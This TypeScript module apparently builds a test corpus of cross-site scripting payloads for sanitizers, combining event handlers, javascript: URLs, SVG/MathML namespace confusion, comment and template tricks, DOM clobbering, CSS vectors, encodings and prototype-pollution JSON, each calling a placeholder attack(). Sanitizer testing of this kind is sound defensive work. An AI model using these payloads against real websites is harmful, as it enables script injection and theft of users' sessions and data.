/**
 * Generates HTML and URLs that try to run `attack()`: combinations of ways to run script with notations that parsers and
 * sanitizers have read differently. The classes are those of the published collections of sanitizers
 * (https://github.com/cure53/DOMPurify/wiki/Attack-Classes-&-Bypass-History, https://html5sec.org).
 */
import {
  escaped,
  fragile,
  gadgets,
  handlers,
  image,
  integrationPoints,
  nested,
  properties,
  rawText,
  runners,
  scriptUrls,
  urlCarriers,
} from './attack-parts.ts';

const combined = (lists: readonly (readonly string[])[]): readonly (readonly string[])[] =>
  lists.reduce<readonly (readonly string[])[]>(
    (found, list) => found.flatMap((parts) => list.map((part) => [...parts, part])),
    [[]],
  );

/** Returns the text of a template for every combination of the values. */
const each = (make: (...values: string[]) => string, ...lists: readonly (readonly string[])[]): readonly string[] =>
  combined(lists).map((values) => make(...values));

const inAttribute = (carrier: string, url: string): string => `<${carrier}="${url.replaceAll('"', '&quot;')}">x`;

/** HTML by class of attack. */
export const attackMarkup: Readonly<Record<string, readonly string[]>> = {
  handlers: handlers.map((name) => `<x tabindex=0 autofocus ${name}=attack()>x</x>`),
  'handlers of the root': each(
    (tag, name) => `<${tag} ${name}=attack()>`,
    ['body', 'html', 'frameset', 'svg', 'math'],
    ['onload', 'onfocus', 'onpageshow', 'onresize'],
  ),
  separators: each(
    (gap, quote) => `<img${gap}src=x${gap}onerror=${quote}attack()${quote}>`,
    [' ', '/', '//', '\t', '\n', '\r', '\f', ' / ', '/"x"/', ' x ', '\v', '\0', '\u00a0'],
    ['', '"', "'", '`'],
  ),
  'URLs in attributes': [
    ...each(inAttribute, urlCarriers, scriptUrls.slice(0, 8)),
    ...each(inAttribute, ['a href', 'img src', 'iframe src', 'form action', 'svg><a xlink:href'], scriptUrls.slice(8)),
  ],
  'namespaces with raw text': each((point, raw) => `<${point}><${raw}><a id="</${raw}>${image}">`, integrationPoints, [
    ...rawText,
    'table',
    'p',
    'mglyph',
    'br',
    'template',
    'select',
  ]),
  'namespaces in fragile elements': each(
    (outer, point, runner) =>
      `<${outer}><${point}></${outer}><${outer}><mglyph><svg><mtext><style><path id="</style>${runner}">`,
    fragile,
    integrationPoints,
    runners.slice(0, 1),
  ),
  'raw text': each(
    (raw, start, end) => `<${raw}>${start}</${raw}>${image}${end}`,
    rawText,
    ['', '<!--', '<p title="', '<![CDATA[', "<a title='", '<script>'],
    ['', '-->', '">', ']]>'],
  ),
  'raw text in attributes': each(
    (raw, runner) => `<p title="</${raw}>${runner.replaceAll('"', "'")}">x</p>`,
    [...rawText, '!--', 'body', 'svg', 'math'],
    runners,
  ),
  comments: each(
    (start, end, runner) => `${start}${runner}${end}`,
    [
      '<!-->',
      '<!--->',
      '<!-- --!>',
      '<!-- -- >',
      '<!x>',
      '<?x>',
      '<?x ?>',
      '</ x>',
      '<![CDATA[x]]>',
      '<!--[if IE]>',
      '<!--<!-->',
      '<%',
      '<!DOCTYPE x [<!ENTITY y "',
    ],
    ['', '-->', '<![endif]-->'],
    runners.slice(0, 3),
  ),
  malformed: [
    ...each(
      (start, runner) => `${start}${runner}`,
      ['<', '<<', '</', '<a <', '<a "', "<a '", '<a =', '<a href="', '&lt', '<\0', '\ufeff', '\ud800', '<x:', '<a\0'],
      runners,
    ),
    ...each((runner, end) => `${runner.slice(0, -1)}${end}`, runners, ['', ' ', '<', '/', ' x', '\n<!--', '"']),
    ...[
      '<IMG SRC=x ONERROR=attack()>',
      '<im\0g src=x onerror=attack()>',
      '<img src=x onerror=attack() onerror=x>',
      '<img """><script>attack()</script>">',
    ],
    ...[
      '<a onmouseover=attack()//',
      '<img src=`x`onerror=attack()>',
      '\uff1cimg src=x onerror=attack()\uff1e',
      '<img src=x one\0rror=attack()>',
    ],
  ],
  templates: [
    ...each(
      (tag, runner) => `<${tag}><template>${runner}</template></${tag}>`,
      ['div', 'table', 'select', 'svg', 'template', 'math><mtext'],
      runners,
    ),
    ...each(
      (mode, rest, runner) => `<div><template shadowrootmode=${mode}${rest}>${runner}</template></div>`,
      ['open', 'closed', 'x'],
      ['', ' shadowrootserializable', ' shadowrootdelegatesfocus'],
      runners,
    ),
  ],
  depth: each(
    (tag, depth) => nested(tag, Number(depth)),
    ['div', 'b', 'a', 'font', 'svg', 'table', 'form', 'template', 'math><mtext', 'svg><desc'],
    ['64', '300', '520'],
  ),
  fragile: each(
    (outer, inner, runner) => `<${outer}><${inner}>${runner}</${outer}>x</${inner}>`,
    fragile,
    fragile,
    runners.slice(0, 2),
  ),
  forms: [
    ...each(
      (end, runner) => `<form id=x><div></form>${end}<form>${runner}</form>`,
      ['', '</div>', '<table>', '<math><mtext>'],
      runners,
    ),
    ...each(
      (url) => `<form id=x></form><button form=x formaction="${url.replaceAll('"', '&quot;')}">x</button>`,
      scriptUrls.slice(0, 12),
    ),
  ],
  clobbering: each(
    (make, name) => make.replaceAll('NAME', name),
    [
      '<form name=NAME id=NAME><input name=NAME></form>',
      `<form><input name=NAME><input id=NAME>${image}</form>`,
      '<img name=NAME id=NAME>',
      '<a id=NAME></a><a id=NAME name=x href="javascript:attack()">x</a>',
      '<iframe name=NAME srcdoc="<a id=x href=javascript:parent.attack()>x</a>"></iframe>',
      '<object id=NAME data="javascript:attack()"></object><embed name=NAME>',
    ],
    properties,
  ),
  styles: [
    ...each(
      (value) => `<style>${value}</style><b style="${value}" class=x>x</b><svg><style>${value}</style></svg>`,
      [
        '@import "javascript:attack()";',
        '*{background:url(javascript:attack())}',
        '*{width:expression(attack())}',
        '*{-moz-binding:url(javascript:attack())}',
        '*{behavior:url(#x)}',
        `*{content:"</style>${image}"}`,
        '@font-face{src:url(javascript:attack())}',
        '*{x:\\65xpression(attack())}',
        '@charset "x";@namespace url(javascript:attack());',
      ],
    ),
    '<b style="position:fixed;inset:0;z-index:9999">x</b>',
  ],
  'frames with their own document': each(
    (attributes, content) => `<iframe ${attributes} srcdoc="${content}"></iframe>`,
    ['', 'sandbox="allow-scripts allow-same-origin"', 'src="/x"', 'name=attack'],
    runners
      .slice(0, 6)
      .flatMap((runner) => [escaped(runner.replaceAll('attack', 'parent.attack')), escaped(escaped(runner))]),
  ),
  'ends of texts': each(
    (end, runner) => `x${end}${runner}`,
    [
      '"',
      "'",
      '`',
      '>',
      '">',
      "'>",
      ']]>',
      '-->',
      '</script>',
      '</style>',
      '</title>',
      '</textarea>',
      '</noscript>',
      '\\',
      '\\"',
      '\u2028',
      '</p>',
      '\r\n\r\n',
    ],
    [...runners, ' onfocus=attack() autofocus tabindex=0 x=', ');attack();//', '};attack();{', '-attack()-'],
  ),
  animations: each(
    (tag, name, value) =>
      `<svg><a><${tag} attributeName=${name} ${value}="javascript:attack()" begin=0s onbegin=attack()></${tag}><text y=9>x</text></a></svg>`,
    ['animate', 'set', 'animateTransform', 'discard', 'handler'],
    ['href', 'xlink:href', 'onclick', 'style'],
    ['values', 'to', 'from', 'by'],
  ),
  gadgets,
  expressions: [
    '{{X}}',
    '{{constructor.constructor("X")()}}',
    '\u0024{X}',
    '<%= X %>',
    '[[X]]',
    '{%X%}',
    '#{X}',
    '@(X)',
    '{{{X}}}',
    '<b>$</b>{X}',
    '{<b></b>{X}}',
    '\u0024{{X}}',
    '<x v-html="X" @click="X" x-html="X" ng-init="X" hx-on:load="X"></x>',
  ].map((text) => text.replaceAll('X', 'attack()')),
  encodings: [
    '+ADw-script+AD4-attack()+ADw-/script+AD4-',
    '%3Cimg src=x onerror=attack()%3E',
    '\u00bcscript\u00beattack()\u00bc/script\u00be',
    '\\x3cimg src=x onerror=attack()\\x3e',
    '\u202e<gmi src=x onerror=attack()>',
    '&lt;img src=x onerror=attack()&gt;',
    '&amp;lt;img src=x onerror=attack()&amp;gt;',
    '\ud83d<img src=x onerror=attack()>\ude00',
  ],
  JSON: [
    '{"__proto__":{"innerHTML":"X"}}',
    '{"constructor":{"prototype":{"innerHTML":"X"}}}',
    '[{"type":"html","title":"X","description":"X"}]',
    '{"location":{"addressTitle":"X"}}',
    '{"$$typeof":"Symbol(react.element)","type":"div","props":{"dangerouslySetInnerHTML":{"__html":"X"}}}',
    '{"type":"img","props":{"src":"x","onerror":"attack()"},"__v":0}',
  ].map((text) => text.replaceAll('X', image)),
  URLs: scriptUrls,
};

/** All HTML and URLs. */
export const attackStrings: readonly string[] = Object.values(attackMarkup).flat();
